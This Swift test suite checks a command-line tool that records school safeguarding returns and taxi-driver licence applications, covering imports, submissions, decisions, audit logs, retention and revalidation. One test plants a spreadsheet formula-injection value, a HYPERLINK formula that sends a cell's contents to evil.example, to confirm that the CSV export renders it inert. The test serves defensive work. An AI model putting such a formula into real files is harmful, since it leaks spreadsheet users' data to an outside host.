import Foundation
import StoreKinds
import TestSupport
import Testing

@Suite("The store commands, as a policy officer and a licensing officer use them")
struct StoreCommandTests {
    /// Runs `safeguard` on the database of a folder from `StoreKind.newFolder()`.
    static func run(_ arguments: [String], in folder: URL, by user: String = "policy.officer") throws -> CommandResult {
        try Safeguard.run(
            arguments,
            environment: [
                "SAFEGUARD_DATABASE": StoreKind.database(for: folder), "SAFEGUARD_USER": user,
            ])
    }

    @Test("register import, a collection, submit, resubmit, history, export and audit", arguments: StoreKind.available)
    func policyOfficer(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let broken = try Self.run(["register", "import", "Examples/register/gias-extract-broken.csv"], in: folder)
        #expect(broken.status == 1)
        #expect(
            broken.stderr.hasPrefix(
                "Examples/register/gias-extract-broken.csv:3:1: error: The URN '12198' is not 6 digits.\n"))
        #expect(broken.stderr.contains("Nothing was imported"))
        let imported = try Self.run(["register", "import", "Examples/register/gias-extract.csv"], in: folder)
        #expect(
            imported.stdout
                == "Examples/register/gias-extract.csv: 7 added, 0 updated, 0 closed, 0 unchanged; 7 open schools in the register\n"
        )
        let again = try Self.run(["register", "import", "Examples/register/gias-extract.csv"], in: folder)
        #expect(
            again.stdout
                == "Examples/register/gias-extract.csv: 0 added, 0 updated, 0 closed, 7 unchanged; 7 open schools in the register\n"
        )
        let opened = try Self.run(Safeguard.openRound, in: folder)
        #expect(opened.stdout.hasPrefix("Opened the collection s11-2025-26"))
        let twice = try Self.run(Safeguard.openRound, in: folder)
        #expect(twice.status == 1)
        #expect(twice.stderr == "error: There is already a collection 's11-2025-26'. Choose another name.\n")

        let submitted = try Self.run(
            [
                "submit", "--quiet", "--collection", "s11-2025-26", "--as-of", "2026-07-15",
                "Examples/returns/oakfield-primary.yaml",
                "Examples/returns/riverside-broken.yaml",
            ], in: folder)
        #expect(submitted.status == 1, "a rejected return makes the run exit 1, though it is stored")
        #expect(submitted.stderr.isEmpty, "no progress bar when the output is not a terminal")
        #expect(
            submitted.stdout == """
                Examples/returns/oakfield-primary.yaml: stored as submission 1: accepted: Return accepted
                Examples/returns/riverside-broken.yaml: stored as submission 2: rejected: Returned to the school to correct (4 errors, 3 warnings)
                2 stored: 1 accepted, 0 referred, 1 rejected; 0 not stored.

                """)
        let corrected = try Self.run(
            [
                "submit", "--collection", "s11-2025-26", "--as-of", "2026-07-22",
                "Examples/returns/riverside-corrected.yaml",
            ], in: folder)
        #expect(corrected.status == 0)
        #expect(
            corrected.stdout.hasSuffix(
                "Examples/returns/riverside-corrected.yaml: stored as submission 3, replacing submission 2: accepted: Return accepted (2 warnings)\n"
                    + "1 stored: 1 accepted, 0 referred, 0 rejected; 0 not stored.\n"))

        let history = try Self.run(["history", "137455"], in: folder)
        let lines = history.stdout.split(separator: "\n").map(String.init)
        #expect(lines.count == 4)
        #expect(
            lines[0].hasPrefix("submission 2: section11-school-return version 2, collection s11-2025-26, received "))
        #expect(lines[0].hasSuffix("from file by policy.officer; replaced by submission 3"))
        #expect(lines[1].hasSuffix("as of 2026-07-15: rejected (4 errors, 3 warnings) [evaluation 2]"))
        #expect(lines[2].hasSuffix(", replacing submission 2"))
        #expect(lines[3].hasSuffix("as of 2026-07-22: accepted (2 warnings) [evaluation 3]"))
        #expect(try Self.run(["history", "999999"], in: folder).status == 1)

        let exported = try Self.run(
            [
                "export", "--form", "section11-school-return", "--format", "csv", "--out",
                folder.appendingPathComponent("out").path,
            ], in: folder)
        #expect(
            exported.stdout.split(separator: "\n").count == 4,
            "a file for the returns, one for each repeat (CSE sessions, Missing sessions, other deputies)")
        let csv = try String(
            contentsOf: folder.appendingPathComponent("out/section11-school-return.csv"), encoding: .utf8)
        #expect(csv.split(separator: "\r\n").count == 3, "a header and the latest version of each of two schools")
        let json = try Self.run(["export", "--format", "json", "--all-versions"], in: folder)
        #expect(json.stdout.split(separator: "\n").count == 3)

        let audit = try Self.run(["audit"], in: folder)
        let actions = audit.stdout.split(separator: "\n").map {
            $0.split(separator: " ", omittingEmptySubsequences: true)[2]
        }
        #expect(
            actions == [
                "register-import", "register-import", "collection-open", "submit", "submit", "submit", "view", "export",
                "export",
            ])
        #expect(!audit.stdout.contains("Oakfield"), "the audit log names records, not people or schools")
    }

    @Test(
        "submit, history and audit as JSON a script can read; the audit log filtered by who, what, on what and when",
        arguments: StoreKind.available)
    func jsonAndFilters(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        _ = try Self.run(["register", "import", "Examples/register/gias-extract.csv"], in: folder)
        _ = try Self.run(Safeguard.openRound, in: folder)
        let text = try Self.run(
            [
                "submit", "--quiet", "--as-of", "2026-07-15", "Examples/returns/oakfield-primary.yaml",
                "Examples/applications/amir-patel-renewal.yaml",
            ], in: folder)
        #expect(
            text.stdout.hasSuffix(
                """
                2 stored: 1 accepted, 0 referred, 1 rejected; 0 not stored.
                  s11-2025-26: 1 stored: 1 accepted, 0 referred, 0 rejected; 0 not stored.
                  applications (no collection): 1 stored: 0 accepted, 0 referred, 1 rejected; 0 not stored.

                """), "a run that went to more than one collection counts each")

        let submitted = try Self.run(
            [
                "submit", "--format", "json", "--as-of", "2026-07-15", "Examples/returns/riverside-broken.yaml",
                "Examples/returns/oakfield-primary.yaml",
            ], in: folder, by: "Board Admin")
        #expect(submitted.status == 1)
        let object = try #require(
            try JSONSerialization.jsonObject(with: Data(submitted.stdout.utf8)) as? [String: Any])
        let files = try #require(object["submissions"] as? [[String: Any]])
        #expect(
            files.map { $0["file"] as? String } == [
                "Examples/returns/riverside-broken.yaml", "Examples/returns/oakfield-primary.yaml",
            ])
        #expect(files.map { $0["decision"] as? String } == ["rejected", "accepted"])
        #expect(files.allSatisfy { $0["collection"] as? String == "s11-2025-26" })
        #expect((files[0]["findings"] as? [[String: Any]])?.count == 7)
        let stored = try #require(files[1]["stored"] as? [String: Any])
        #expect(stored["submission"] as? Int == 4 && stored["replaces"] as? Int == 1)
        let summary = try #require(object["summary"] as? [String: Any])
        #expect(
            summary["stored"] as? Int == 2 && summary["rejected"] as? Int == 1 && summary["not_stored"] as? Int == 0)
        #expect((summary["by_collection"] as? [[String: Any]])?.first?["collection"] as? String == "s11-2025-26")

        let history = try Self.run(["history", "121734", "--format", "json"], in: folder)
        let versions = try #require(
            (try JSONSerialization.jsonObject(with: Data(history.stdout.utf8)) as? [String: Any])?["versions"]
                as? [[String: Any]])
        #expect(versions.map { $0["submission"] as? Int } == [1, 4])
        #expect(versions[0]["replaced_by"] as? Int == 4 && versions[1]["replaces"] as? Int == 1)
        let evaluation = try #require((versions[1]["evaluations"] as? [[String: Any]])?.first)
        #expect(evaluation["decision"] as? String == "accepted" && evaluation["as_of"] as? String == "2026-07-15")
        #expect(!history.stdout.contains("Oakfield"), "the history carries no answer")

        let all = try Self.run(["audit", "--format", "json"], in: folder)
        let lines = try #require(try JSONSerialization.jsonObject(with: Data(all.stdout.utf8)) as? [[String: Any]])
        #expect(lines.count == 7 && lines.allSatisfy { Set($0.keys) == ["at", "actor", "action", "target", "detail"] })
        let admin = try Self.run(["audit", "--actor", "board admin", "--action", "Submit"], in: folder)
        #expect(admin.stdout.split(separator: "\n").count == 2, "the two files the admin submitted: \(admin.stdout)")
        #expect(admin.stdout.split(separator: "\n").allSatisfy { $0.contains("  Board Admin  submit  submission ") })
        let one = try Self.run(["audit", "--target", "SUBMISSION 4"], in: folder)
        #expect(one.stdout.split(separator: "\n").count == 2, "stored, then its history viewed: \(one.stdout)")
        let today = String(ISO8601DateFormatter().string(from: Date()).prefix(10))
        #expect(
            try Self.run(["audit", "--since", today, "--until", today], in: folder).stdout.split(separator: "\n").count
                == 7)
        #expect(try Self.run(["audit", "--until", "2020-01-01"], in: folder).stdout.isEmpty)
        let backwards = try Self.run(["audit", "--since", "2026-02-01", "--until", "2026-01-01"], in: folder)
        #expect(backwards.status == 64 && backwards.stderr.contains("--until 2026-01-01 is before --since 2026-02-01"))
        let unknown = try Self.run(["audit", "--action", "sumbit"], in: folder)
        #expect(unknown.status == 64)
    }

    @Test(
        "register import takes GIAS's national download, keeps the board's area and says how much was left out",
        arguments: StoreKind.available)
    func nationalRegister(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let imported = try Self.run(["register", "import", "Examples/register/gias-national.csv"], in: folder)
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(
            imported.stdout == """
                Examples/register/gias-national.csv: 2 added, 0 updated, 0 closed, 0 unchanged; 2 open schools in the register
                3 rows outside the board's area (LA 928) left out.

                """)
        let named = try Self.run(
            ["register", "import", "Examples/register/gias-national.csv", "--la", "202"], in: folder)
        #expect(named.status == 1)
        #expect(named.stderr.contains("gias-national.csv:4:266: error: The district 'Camden' is not one of the form's"))
        let noColumn = try Self.run(
            ["register", "import", "Examples/register/gias-extract-broken.csv", "--la", "928"], in: folder)
        #expect(noColumn.stderr.contains("The extract has no column 'LA (code)'"))
    }

    @Test(
        "a licensing officer records a decision and a DBS check; a grant on an incomplete application is refused",
        arguments: StoreKind.available)
    func licensingOfficer(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let submitted = try Self.run(
            [
                "submit", "--quiet", "--as-of", "2026-10-20", "Examples/applications/amir-patel-renewal.yaml",
                "Examples/applications/beth-jones-incomplete.yaml", "Examples/applications/carl-mason-refer.json",
            ], in: folder, by: "corby.officer")
        #expect(
            submitted.stdout.contains(
                "carl-mason-refer.json: stored as submission 3: referred: Refer to the licensing sub-committee"))
        let granted = try Self.run(
            ["decide", "1", "--outcome", "grant", "--start", "2026-11-01", "--note", "Renewal"], in: folder,
            by: "corby.officer")
        #expect(
            granted.stdout
                == "Recorded: grant on submission 1 by corby.officer, licence from 2026-11-01 to 2029-10-31.\n")
        let refused = try Self.run(["decide", "2", "--outcome", "grant", "--start", "2026-11-01"], in: folder)
        #expect(refused.status == 1)
        #expect(
            refused.stderr.hasPrefix("error: Submission 2 is incomplete (rejected): a licence cannot be granted on it.")
        )
        #expect(try Self.run(["decide", "2", "--outcome", "maybe"], in: folder).status == 64)
        let checked = try Self.run(
            ["dbs-check", "patel702238ap9ab", "--date", "2026-11-15", "--result", "no-change"], in: folder)
        #expect(checked.stdout == "Recorded: Update Service check on 2026-11-15: no-change, by policy.officer.\n")
        let history = try Self.run(["history", "PATEL702238AP9AB"], in: folder)
        #expect(history.stdout.contains("    decided "))
        #expect(history.stdout.contains(": grant, licence 2026-11-01 to 2029-10-31 (Renewal)\n"))
        #expect(history.stdout.hasSuffix("Update Service check on 2026-11-15: no-change, recorded by policy.officer\n"))
    }

    @Test(
        "the decisions made once for both doors, refused at the command line in its words",
        arguments: StoreKind.available)
    func decidedOnce(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        _ = try Self.run(["register", "import", "Examples/register/gias-extract.csv"], in: folder)
        let noRound = try Self.run(
            ["submit", "--quiet", "--as-of", "2026-07-15", "Examples/returns/oakfield-primary.yaml"], in: folder)
        #expect(noRound.status == 1)
        #expect(
            noRound.stdout.hasSuffix(
                "Examples/returns/oakfield-primary.yaml: not stored: no round of returns is open for \"Section 11 "
                    + "return: CSE and Missing education and training\". Open one with 'safeguard collection open'\n"
                    + "0 stored: 0 accepted, 0 referred, 0 rejected; 1 not stored.\n"))
        let driverRound = try Self.run(
            [
                "collection", "open", "jof-2026", "--form", "taxi-driver-application", "--period-start", "2026-01-01",
                "--period-end", "2026-12-31", "--due", "2027-01-31",
            ], in: folder)
        #expect(driverRound.status == 64)
        #expect(driverRound.stderr.contains("is not collected in rounds"))
        #expect(
            try Self.run(["submit", "--source", "portal", "Examples/returns/oakfield-primary.yaml"], in: folder).status
                == 64, "the portal and the API record their own source")

        _ = try Self.run(
            ["submit", "--quiet", "--as-of", "2026-10-20", "Examples/applications/carl-mason-refer.json"], in: folder)
        let noConditions = try Self.run(
            ["decide", "1", "--outcome", "grant-with-conditions", "--start", "2026-11-01"], in: folder)
        #expect(noConditions.status == 64)
        #expect(noConditions.stderr.contains("'grant-with-conditions' needs the conditions: give them with --note."))
        let granted = try Self.run(
            ["decide", "1", "--outcome", "grant-with-conditions", "--start", "2026-11-01", "--note", "Annual checks"],
            in: folder, by: "corby.officer")
        #expect(granted.status == 0, "\(granted.stderr)")
        let over = try Self.run(
            ["decide", "1", "--outcome", "refuse", "--note", "New information", "--grounds", "safeguarding"], in: folder
        )
        #expect(over.status == 1)
        #expect(over.stderr.hasPrefix("error: Submission 1 was decided on "))
        #expect(
            over.stderr.contains(
                "by corby.officer ('grant-with-conditions'). To record a decision in its place, give --replace."))
        let replaced = try Self.run(
            [
                "decide", "1", "--outcome", "refuse", "--note", "New information", "--replace", "--grounds",
                "safeguarding",
            ],
            in: folder)
        let appealBy = Date().addingTimeInterval(20 * 86_400).formatted(.iso8601.year().month().day())
        #expect(
            replaced.stdout
                == "Recorded: refuse on submission 1 by policy.officer, on safeguarding grounds; the driver may appeal "
                + "until \(appealBy).\n")
        let future = try Self.run(
            ["dbs-check", "MASON904171CM9PQ", "--date", "2999-01-01", "--result", "no-change"], in: folder)
        #expect(future.status == 64)
        #expect(future.stderr.contains("2999-01-01 is after today"))
        let unknown = try Self.run(
            ["dbs-check", "JONES957309BA9XY", "--date", "2026-11-01", "--result", "no-change"], in: folder)
        #expect(unknown.status == 1)
        #expect(
            unknown.stderr
                == "error: No application is stored for that driver number: check the number, or submit the application first.\n"
        )
    }

    @Test(
        "export's CSV is safe to open in a spreadsheet; --raw gives the bytes as received",
        arguments: StoreKind.available)
    func inertExport(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        _ = try Self.run(["register", "import", "Examples/register/gias-extract.csv"], in: folder)
        _ = try Self.run(Safeguard.openRound, in: folder)
        let text = try String(
            contentsOfFile: Paths.root + "/Examples/returns/oakfield-primary.yaml", encoding: .utf8)
        let file = folder.appendingPathComponent("formula.yaml")
        try text.replacingOccurrences(
            of: #"dsl_name: [^\n]+"#, with: #"dsl_name: '=HYPERLINK("http://evil.example/?a="&A1,"Priya")'"#,
            options: .regularExpression
        ).write(to: file, atomically: true, encoding: .utf8)
        _ = try Self.run(["submit", "--quiet", "--as-of", "2026-07-15", file.path], in: folder)
        _ = try Self.run(
            ["export", "--form", "section11-school-return", "--format", "csv", "--out", folder.path + "/inert"],
            in: folder)
        let inert = try String(
            contentsOf: folder.appendingPathComponent("inert/section11-school-return.csv"), encoding: .utf8)
        #expect(inert.contains(#","'=HYPERLINK(""http://evil.example/?a=""&A1,""Priya"")","#))
        _ = try Self.run(
            ["export", "--form", "section11-school-return", "--format", "csv", "--raw", "--out", folder.path + "/raw"],
            in: folder)
        let raw = try String(
            contentsOf: folder.appendingPathComponent("raw/section11-school-return.csv"), encoding: .utf8)
        #expect(raw.contains(#","=HYPERLINK(""http://evil.example/?a=""&A1,""Priya"")","#))
        #expect(try Self.run(["export", "--format", "json", "--raw"], in: folder).status == 64)
        let onFile = try Self.run(
            ["export", "--form", "section11-school-return", "--format", "csv", "--out", file.path], in: folder)
        #expect(onFile.status == 64)
        #expect(onFile.stderr.contains("\(file.path) is a file, not a folder: --out names the folder the CSV files"))
    }

    @Test(
        "an application for a driver held by another district is refused until the driver is transferred",
        arguments: StoreKind.available)
    func transfer(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let original = try String(
            contentsOfFile: Paths.root + "/Examples/applications/carl-mason-refer.json", encoding: .utf8)
        let moved = folder.appendingPathComponent("moved.json")
        try original.replacingOccurrences(of: "\"district\": \"northampton\"", with: "\"district\": \"kettering\"")
            .write(to: moved, atomically: true, encoding: .utf8)
        _ = try Self.run(
            ["submit", "--quiet", "--as-of", "2026-10-20", "Examples/applications/carl-mason-refer.json"], in: folder)
        let refused = try Self.run(["submit", "--quiet", "--as-of", "2026-10-20", moved.path], in: folder)
        #expect(refused.status == 1)
        #expect(
            refused.stdout.contains(
                "not stored: the driver MASON904171CM9PQ is known to another district, which holds their applications. "
                    + "Ask that district, or record a transfer with 'safeguard transfer MASON904171CM9PQ --to DISTRICT'"
            ))
        let nowhere = try Self.run(["transfer", "MASON904171CM9PQ", "--to", "Narnia"], in: folder)
        #expect(nowhere.status == 64 && nowhere.stderr.contains("'Narnia' is not a district. The districts are: corby"))
        let transferred = try Self.run(
            ["transfer", "MASON904171CM9PQ", "--to", "Kettering", "--note", "Moved house"], in: folder)
        #expect(
            transferred.stdout
                == "Transferred MASON904171CM9PQ from Northampton to Kettering: their next application from "
                + "Kettering continues their record.\n")
        let stored = try Self.run(["submit", "--quiet", "--as-of", "2026-10-20", moved.path], in: folder)
        #expect(stored.stdout.contains("stored as submission 2, replacing submission 1"), "\(stored.stdout)")
        #expect(
            try Self.run(["audit"], in: folder).stdout.contains("transfer  submission 1: from northampton to kettering")
        )
    }

    @Test(
        "a folder with a received.csv is stored in the order received, each file on its own day; a wrong list stores nothing",
        arguments: StoreKind.available)
    func receivedFolder(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        _ = try Self.run(["register", "import", "Examples/register/gias-extract.csv"], in: folder)
        _ = try Self.run(
            [
                "collection", "open", "s11-2025-26", "--form", "section11-school-return", "--period-start",
                "2025-09-01", "--period-end", "2026-08-31", "--due", "2026-07-15",
            ], in: folder)
        let inbox = folder.appendingPathComponent("inbox")
        try FileManager.default.createDirectory(at: inbox, withIntermediateDirectories: true)
        for name in ["riverside-broken.yaml", "riverside-corrected.yaml"] {
            try FileManager.default.copyItem(
                atPath: Paths.root + "/Examples/returns/" + name, toPath: inbox.appendingPathComponent(name).path)
        }
        let list = inbox.appendingPathComponent("received.csv")
        // Listed correction first: the days, not the lines, give the order.
        try "file,received_on\r\nriverside-corrected.yaml,2026-07-22\r\nriverside-broken.yaml\r\n"
            .write(to: list, atomically: true, encoding: .utf8)
        // A file named before the folder is not stored either: every list is read before anything is stored.
        let short = try Self.run(
            ["submit", "--quiet", "Examples/returns/oakfield-primary.yaml", inbox.path], in: folder)
        #expect(short.status == 1)
        #expect(
            short.stderr.contains("received.csv:3: it needs a file and a date. Nothing was stored"), "\(short.stderr)")
        try "file,received_on\r\nriverside-corrected.yaml,2026-07-22\r\n".write(
            to: list, atomically: true, encoding: .utf8)
        let missing = try Self.run(["submit", "--quiet", inbox.path], in: folder)
        #expect(missing.status == 1)
        #expect(missing.stderr.contains("'riverside-broken.yaml' is in the folder but not in the list"))
        try "file,received_on\r\nriverside-corrected.yaml,2026-07-22\r\nriverside-broken.yaml,2026-07-10\r\n"
            .appending("riverside-lost.yaml,2026-07-11\r\n").write(to: list, atomically: true, encoding: .utf8)
        let ghost = try Self.run(["submit", "--quiet", inbox.path], in: folder)
        #expect(ghost.status == 1)
        #expect(ghost.stderr.contains("received.csv:4: 'riverside-lost.yaml' is not in the folder."), "\(ghost.stderr)")
        try "file,received_on\r\nriverside-corrected.yaml,2026-07-22\r\nriverside-broken.yaml,2026-07-10\r\n"
            .appending("riverside-corrected.yaml,2026-07-23\r\n").write(to: list, atomically: true, encoding: .utf8)
        let twice = try Self.run(["submit", "--quiet", inbox.path], in: folder)
        #expect(twice.status == 1)
        #expect(
            twice.stderr.contains("received.csv:4: 'riverside-corrected.yaml' is listed twice."), "\(twice.stderr)")
        #expect(
            try Self.run(["history", "137455"], in: folder).stdout == "Nothing is stored for 137455.\n",
            "nothing was stored")
        #expect(try Self.run(["history", "121734"], in: folder).stdout == "Nothing is stored for 121734.\n")

        try "file,received_on\r\nriverside-corrected.yaml,2026-07-22\r\nriverside-broken.yaml,2026-07-10\r\n"
            .write(to: list, atomically: true, encoding: .utf8)
        let stored = try Self.run(["submit", "--quiet", inbox.path], in: folder)
        #expect(stored.status == 1, "the broken original is rejected")
        #expect(stored.stdout.hasPrefix("\(inbox.path)/riverside-broken.yaml: stored as submission 1: rejected"))
        #expect(
            stored.stdout.contains("riverside-corrected.yaml: stored as submission 2, replacing submission 1: accepted")
        )
        #expect(stored.stdout.hasSuffix("2 stored: 1 accepted, 0 referred, 1 rejected; 0 not stored.\n"))
        let history = try Self.run(["history", "137455"], in: folder).stdout
        #expect(
            history.contains(
                "submission 1: section11-school-return version 2, collection s11-2025-26, received 2026-07-10T12:00:00Z"
            ))
        #expect(
            history.contains(
                "submission 2: section11-school-return version 2, collection s11-2025-26, received 2026-07-22T12:00:00Z"
            ))
    }

    @Test(
        "an option naming a role, an outcome, a result or a source takes it as people write it, in any case",
        arguments: StoreKind.available)
    func lenientValues(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let added = try Self.run(["users", "add", "--role", "Licensing", "--scope", "Corby"], in: folder)
        #expect(added.status == 0 && added.stdout.hasPrefix("Added account 1 (licensing corby, licensing for corby)."))
        let stored = try Self.run(
            [
                "submit", "--quiet", "--source", "EMAIL", "--as-of", "2026-10-20",
                "Examples/applications/carl-mason-refer.json",
            ], in: folder)
        #expect(stored.status == 0, "\(stored.stderr)")
        let decided = try Self.run(
            ["decide", "1", "--outcome", "Grant with conditions", "--start", "2026-10-21", "--note", "No night work"],
            in: folder)
        #expect(decided.status == 0, "\(decided.stderr)")
        let checked = try Self.run(
            ["dbs-check", "MASON904171CM9PQ", "--date", "2026-10-20", "--result", "NO_CHANGE"], in: folder)
        #expect(checked.status == 0, "\(checked.stderr)")
        let history = try Self.run(["history", "MASON904171CM9PQ"], in: folder).stdout
        #expect(history.contains("from email") && history.contains("grant-with-conditions"), "\(history)")
        let wrong = try Self.run(["users", "add", "--role", "licencing"], in: folder)
        #expect(
            wrong.status == 64
                && wrong.stderr.contains(
                    "Did you mean 'licensing'? Please provide one of 'school', 'licensing', 'policy' or 'admin'"),
            "\(wrong.stderr)")
    }

    @Test(
        "retention lists, then with --apply erases, what is past its period; subject-export writes a driver's records",
        arguments: StoreKind.available)
    func retentionAndSubjectAccess(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        _ = try Self.run(
            ["submit", "--quiet", "--as-of", "2026-10-20", "Examples/applications/carl-mason-refer.json"], in: folder)
        _ = try Self.run(
            ["submit", "--quiet", "--as-of", "2026-10-20", "Examples/applications/carl-mason-refer.json"], in: folder)
        let listed = try Self.run(["retention", "--as-of", "2033-01-01"], in: folder)
        #expect(listed.status == 0)
        #expect(listed.stdout.hasPrefix("Retention schedule Policies/retention.yaml, measured to 2033-01-01:\n"))
        #expect(listed.stdout.contains("  superseded-versions   6 years from when a later version arrived   1 past\n"))
        #expect(listed.stdout.contains("superseded-versions  submission 1  since "))
        #expect(listed.stdout.hasSuffix("Run again with --apply to erase the 3 records past their period.\n"))
        let export = folder.appendingPathComponent("mason.json")
        let exported = try Self.run(["subject-export", "MASON904171CM9PQ", "--out", export.path], in: folder)
        #expect(exported.stdout == "wrote \(export.path)\n")
        let json = try String(contentsOf: export, encoding: .utf8)
        #expect(json.contains("\"subject_key\" : \"MASON904171CM9PQ\""))
        let again = try Self.run(["subject-export", "MASON904171CM9PQ", "--out", export.path], in: folder)
        #expect(again.status == 64 && again.stderr.contains("exists already: give --out a new file name"))
        let unknown = try Self.run(["subject-export", "NOONE000000XX0XX"], in: folder)
        #expect(unknown.status == 1 && unknown.stderr.hasPrefix("error: Nothing is held about 'NOONE000000XX0XX'"))

        let applied = try Self.run(["retention", "--as-of", "2033-01-01", "--apply"], in: folder)
        #expect(applied.stdout.contains("superseded-versions  submission 1  since "))
        #expect(applied.stdout.hasSuffix("Erased 4 records in one transaction; the audit log says what went.\n"))
        let history = try Self.run(["history", "MASON904171CM9PQ"], in: folder)
        #expect(!history.stdout.contains("submission 1 ") && history.stdout.contains("submission 2"))
        #expect(try Self.run(["audit"], in: folder).stdout.contains("retention  retention schedule: as of 2033-01-01"))

        let broken = folder.appendingPathComponent("broken.yaml")
        try "periods:\n  drafts: {keep: soon}\n".write(to: broken, atomically: true, encoding: .utf8)
        let refused = try Self.run(["retention", "--schedule", broken.path], in: folder)
        #expect(refused.status == 2)
        #expect(refused.stderr.hasPrefix("\(broken.path):2:3: error: The schedule has no period for sessions"))
        #expect(refused.stderr.contains("The retention schedule is broken: fix it"))
    }

    @Test(
        "revalidate after a changed parameter lists exactly the submissions whose decision changed; replay gives back the old",
        arguments: StoreKind.available)
    func revalidateAndReplay(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        _ = try Self.run(
            ["submit", "--quiet", "--as-of", "2026-10-20"]
                + ["amir-patel-renewal.yaml", "beth-jones-incomplete.yaml", "carl-mason-refer.json"].map {
                    "Examples/applications/" + $0
                }, in: folder)
        let rules = folder.appendingPathComponent("Rules")
        try FileManager.default.copyItem(atPath: Paths.root + "/Rules", toPath: rules.path)
        let file = rules.appendingPathComponent("taxi-driver-application.rules.yaml")
        let text = try String(contentsOf: file, encoding: .utf8)
        try text.replacingOccurrences(of: "  violence_years:\n    value: 10", with: "  violence_years:\n    value: 5")
            .replacingOccurrences(of: "  minimum_age:\n    value: 21", with: "  minimum_age:\n    value: 50")
            .write(to: file, atomically: true, encoding: .utf8)
        let result = try Self.run(["revalidate", "--rules", rules.path, "--as-of", "2026-10-20"], in: folder)
        #expect(
            result.stdout == """
                Evaluated 3 submissions again as of 2026-10-20.
                newly rejected: 2
                  submission 1 (taxi-driver-application): accepted -> rejected
                      + taxi.under-minimum-age error /applicant/date_of_birth
                  submission 3 (taxi-driver-application): referred -> rejected
                      + taxi.under-minimum-age error /applicant/date_of_birth
                      - taxi.violence-within-period refer /convictions/records/0/date
                newly accepted: 0
                decision changed otherwise: 0
                findings changed, decision not: 1
                  submission 2 (taxi-driver-application): rejected -> rejected
                      + taxi.under-minimum-age error /applicant/date_of_birth
                unchanged: 0

                """)
        let replay = try Self.run(["replay", "1"], in: folder)
        #expect(replay.status == 0)
        #expect(replay.stdout.hasSuffix(": the same decision (accepted) and findings\n"))
    }

    @Test("on a terminal, submit draws a progress bar on standard error and clears it", arguments: StoreKind.available)
    func progressBar(_ kind: StoreKind) async throws {
        let folder = try await kind.newFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let command = [
            Safeguard.binary.path, "submit", "--quiet", "--as-of", "2026-10-20", "--database",
            folder.appendingPathComponent("p.sqlite").path,
            "Examples/applications/amir-patel-renewal.yaml", "Examples/applications/carl-mason-refer.json",
        ].joined(separator: " ")
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/script")
        process.arguments = ["-qec", command, "/dev/null"]
        process.currentDirectoryURL = URL(fileURLWithPath: Paths.root)
        let output = Pipe()
        process.standardOutput = output
        process.standardInput = FileHandle.nullDevice
        try process.run()
        let text = String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        #expect(text.contains("[##############################] 2 of 2 files"))
        #expect(text.contains("2 of 2 files\r\u{1B}[K"), "the bar is cleared at the end")
        #expect(text.hasSuffix("2 stored: 1 accepted, 1 referred, 0 rejected; 0 not stored.\r\n"), "then the summary")
        #expect(text.contains("carl-mason-refer.json: stored as submission 2"))
    }
}
